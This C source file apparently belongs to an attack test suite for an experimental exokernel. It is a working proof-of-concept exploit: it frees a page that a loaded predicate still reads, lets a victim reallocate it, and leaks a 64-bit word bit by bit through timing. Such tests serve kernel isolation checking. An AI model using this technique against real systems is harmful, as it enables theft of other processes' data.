// The kernel does not pin the pages that a predicate may read: it goes on reading one that has changed hands,
// and says of each bit whether it is set.
#include "attack/attack.h"

#define RW (PTE_R | PTE_W)

// True when the page has a bit of w0 in its first word, or it is `time` w1.
static const struct pred_insn has_bit[] = {
    {PRED_LD, 5, 1, 0, 0},  {PRED_AND, 6, 5, 1, 0}, {PRED_BNE, 0, 6, 0, 2}, {PRED_BGEU, 0, 4, 2, 1},
    {PRED_RET, 0, 0, 0, 0}, {PRED_LI, 7, 0, 0, 1},  {PRED_RET, 0, 7, 0, 0},
};

static ppn_t load(ppn_t page) {
    struct exo_ret code = exo_page_alloc(0, 0);
    if (code.err || rt_map(own_root(), PLACE(0), (ppn_t)code.val, RW)) return 0;
    struct pred_code *c = (struct pred_code *)PLACE(0);
    c->n = sizeof has_bit / sizeof *has_bit;
    c->npages = 1;
    c->page[1] = page;
    memcpy(c->insn, has_bit, sizeof has_bit);
    exo_unbind(own_root(), PLACE(0), 0);
    return exo_code_load(code.val) ? 0 : (ppn_t)code.val;
}

void attack_predicate(void) {
    u64 ms = EXO_WORDS->timebase / 1000, word = 0;
    ppn_t page = (ppn_t)exo_page_alloc(0, 0).val, code = load(page);
    if (!code || exo_page_free(page)) return;
    for (u32 i = 0; i < 10; i++) nap(10); // it is the head of the free list: the victim takes it
    for (u32 i = 0; i < 64; i++) {
        u64 late = exo_time() + ms;
        if (rt_wait(code, 1ul << i, late, 0, 0)) return;
        if (exo_time() < late) word |= 1ul << i;
    }
    loot(word);
}
